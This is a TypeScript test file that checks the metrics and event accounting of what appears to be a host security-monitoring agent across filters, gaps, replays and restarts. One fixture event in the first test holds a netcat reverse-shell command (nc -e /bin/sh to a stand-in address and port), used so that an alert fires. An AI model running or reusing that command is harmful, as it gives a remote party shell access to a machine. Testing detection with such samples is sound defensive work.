import { setTimeout as delay } from 'node:timers/promises';
import test, { type ExecutionContext } from 'ava';
import { execEvent, FakeHelper, gapEvent } from '../../support/fake-helper.ts';
import { ownPort } from '../../support/own-port.ts';
import { accountOf, scrape, sumOf, type Series } from '../../support/metrics.ts';
import { Workplace, type AgentProcess } from '../support/agent-process.ts';
import { killed, linesOf, read, start, summaryOf } from '../support/outputs.ts';

const DROPPED = 'probes_events_dropped_total';

const FILTER = `filters:
  - { name: compilers, detection: { tool: { Image|endswith: /cc1 }, condition: tool }, action: drop }
`;

/** The series, once all outputs have everything. */
async function settled(listen: string): Promise<Series[]> {
  for (;;) {
    const series = await scrape(listen);
    if (sumOf(series, 'probes_output_lag_records') === 0) return series;
    await delay(10);
  }
}

/** An output's account adds up: losses are what its gaps say, and all numbers are somewhere. */
function addsUp(t: ExecutionContext, series: Series[], output: string, lines: string, numbers: number): void {
  const account = accountOf(series, output, lines, numbers);
  t.is(account.counted, account.told, `${output}: counted and told`);
  t.is(account.numbers, numbers, `${output}: all numbers`);
  t.is(sumOf(series, 'probes_output_records_total', { output }), linesOf(lines).length, `${output}: records`);
}

const isFile = (agent: AgentProcess, path: string, last: number): Promise<void> =>
  agent.until(() => read(path).includes(`"seq":${last},`));

test.serial(
  'filters, alerts, gaps of the helper, holes, an unreadable event and replays: the sums are what the files say',
  async (t) => {
    using work = new Workplace();
    await using helper = await new FakeHelper({ hello: { first_seq: 1, last_seq: 0 }, heartbeatMs: 50 }).listen();
    const listen = `127.0.0.1:${await ownPort()}`;
    await using agent = await start(
      work,
      `source: { socket: ${helper.socketPath} }
metrics: { listen: "${listen}" }
${FILTER}rules: {}
outputs:
  - { name: all, type: file, path: ${work.path('all')} }
  - { name: alerts, type: file, path: ${work.path('alerts')}, events: alerts }
`,
    );
    helper.send(
      execEvent(1),
      execEvent(2, { exe: '/usr/lib/cc1', filename: '/usr/lib/cc1' }),
      gapEvent(3, 7),
      execEvent(8, { exe: '/usr/bin/nc', filename: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh', '192.0.2.1', '4444'] }),
      { type: 'notice', text: 'of a later version' },
      gapEvent(11, 12, { hop: 'pipe', cause: 'overrun' }),
      { ...execEvent(13), pid: 'no number' },
      execEvent(14),
    );
    await isFile(agent, work.path('all'), 14);
    const replay = async (): Promise<void> => {
      const { connections } = helper;
      helper.disconnectAll();
      await agent.until(() => helper.connections > connections);
    };
    await replay();
    helper.send(
      execEvent(15, { exe: '/usr/lib/cc1', filename: '/usr/lib/cc1' }),
      execEvent(17),
      gapEvent(18, 20),
      execEvent(21),
    );
    await replay();
    // An event without a number is not known again, and marks the end of each replay.
    await agent.until(() => read(work.path('all')).split('"notice"').length === 4);
    const series = await settled(listen);
    const all = read(work.path('all'));
    t.is(
      summaryOf(all),
      '1 [3-7 ring ring_full] 8 notice [9-10 pipe backlog_overrun] [11-12 pipe overrun] [13-13 pipe unreadable] 14 notice [16-16 pipe backlog_overrun] 17 [18-20 ring ring_full] 21 notice',
    );
    addsUp(t, series, 'all', all, 21);
    addsUp(t, series, 'alerts', read(work.path('alerts')), 21);
    t.is(sumOf(series, DROPPED, { output: 'all', hop: 'ring', cause: 'ring_full', intentional: 'false' }), 8);
    t.is(sumOf(series, DROPPED, { output: 'alerts', hop: 'pipe', cause: 'backlog_overrun', intentional: 'false' }), 3);
    t.is(sumOf(series, DROPPED, { hop: 'filter', intentional: 'true' }), 2);
    t.is(sumOf(series, 'probes_filter_decisions_total', { filter: 'compilers' }), 2);
    t.is(sumOf(series, 'probes_events_received_total', { type: 'exec' }), 7, 'replays are not received again');
    t.is(sumOf(series, 'probes_events_received_total', { type: 'gap' }), 3);
    t.is(sumOf(series, 'probes_events_received_total', { type: 'other' }), 3);
    t.is(
      sumOf(series, 'probes_alerts_total'),
      linesOf(read(work.path('alerts'))).filter((line) => line.includes('"rules"')).length,
    );
    t.is(sumOf(series, 'probes_rule_matches_total', { rule: 'others' }), 0);
    t.true(sumOf(series, 'probes_rule_matches_total') >= 1);
    t.true(
      series.filter(({ name }) => name === 'probes_rule_matches_total').every(({ labels }) => labels['level'] !== ''),
    );
    t.is(sumOf(series, 'probes_helper_connections_total'), helper.connections);
    t.is(await agent.end(), 0);
  },
);

test.serial('an output that is overtaken is seen at once, and its gap says the same later', async (t) => {
  using work = new Workplace();
  await using helper = await new FakeHelper().listen();
  const listen = `127.0.0.1:${await ownPort()}`;
  await using agent = await start(
    work,
    `source: { socket: ${helper.socketPath} }
metrics: { listen: "${listen}" }
outputs:
  - { name: slow, type: stdout, max_queue_bytes: 64KiB }
  - { name: other, type: file, path: ${work.path('other')} }
`,
  );
  await agent.until(() => helper.clients.size === 1);
  agent.child.stdout!.pause();
  const last = 3000;
  for (let seq = 1; seq <= last; seq += 100) {
    helper.send(...Array.from({ length: 100 }, (_, i) => (i === 50 ? gapEvent(seq + i, seq + i) : execEvent(seq + i))));
    await delay(5);
  }
  await isFile(agent, work.path('other'), last);
  const before = await scrape(listen);
  const lost = sumOf(before, DROPPED, { output: 'slow', cause: 'queue_full' });
  t.true(lost > 0, 'while nobody reads');
  t.true(sumOf(before, 'probes_output_lag_records', { output: 'slow' }) > 0);
  t.true(sumOf(before, 'probes_output_lag_bytes', { output: 'slow' }) <= 64 * 1024);
  t.true(sumOf(before, 'probes_output_oldest_age_seconds', { output: 'slow' }) > 0);
  agent.child.stdout!.resume();
  await agent.until(() => agent.stdout.includes(`"seq":${last},`));
  const after = await settled(listen);
  t.regex(summaryOf(agent.stdout), /output queue_full/);
  t.is(sumOf(after, DROPPED, { output: 'slow', cause: 'queue_full' }), lost);
  addsUp(t, after, 'slow', agent.stdout, last);
  addsUp(t, after, 'other', read(work.path('other')), last);
  t.is(sumOf(after, 'probes_output_oldest_age_seconds'), 0);
  await agent.end();
});

test.serial(
  'after a restart each output counts what it gets from then on, and goes on counting when it is changed',
  async (t) => {
    using work = new Workplace();
    await using helper = await new FakeHelper({ hello: { first_seq: 1, last_seq: 100 } }).listen();
    const listen = `127.0.0.1:${await ownPort()}`;
    const output = (name: string, more = ''): string =>
      `  - { name: ${name}, type: file, path: ${work.path(name)}${more} }\n`;
    const config = (...outputs: string[]): string =>
      `source: { socket: ${helper.socketPath} }\nmetrics: { listen: "${listen}" }\nrules: {}\noutputs:\n${outputs.join('')}`;
    helper.send(execEvent(1), gapEvent(2, 4), execEvent(5));
    {
      await using first = await start(work, config(output('old')));
      await isFile(first, work.path('old'), 5);
      await killed(first);
    }
    // The old file ends in the middle of a gap, by now.
    const oldLines = read(work.path('old'));
    helper.backlog = [execEvent(1), gapEvent(2, 9), execEvent(10)].map((event) => JSON.stringify(event));
    await using agent = await start(work, config(output('old'), output('fresh'), output('quiet', ', events: alerts')));
    await isFile(agent, work.path('fresh'), 10);
    await isFile(agent, work.path('old'), 10);
    await agent.until(() => read(work.path('quiet')).includes('"last":9'));
    const series = await settled(listen);
    t.is(summaryOf(read(work.path('old')).slice(oldLines.length)), '[6-9 ring ring_full] 10');
    addsUp(t, series, 'old', read(work.path('old')).slice(oldLines.length), 5);
    addsUp(t, series, 'fresh', read(work.path('fresh')), 10);
    addsUp(t, series, 'quiet', read(work.path('quiet')), 10);
    work.configure(config(output('old', ', max_files: 9'), output('fresh'), output('quiet', ', events: alerts')));
    agent.child.kill('SIGHUP');
    await agent.until(() => agent.countOf('ConfigReloaded') === 1);
    helper.send(gapEvent(11, 12), execEvent(13));
    for (const name of ['old', 'fresh']) await isFile(agent, work.path(name), 13);
    const later = await settled(listen);
    addsUp(t, later, 'old', read(work.path('old')).slice(oldLines.length), 8);
    addsUp(t, later, 'fresh', read(work.path('fresh')), 13);
    await agent.end();
  },
);
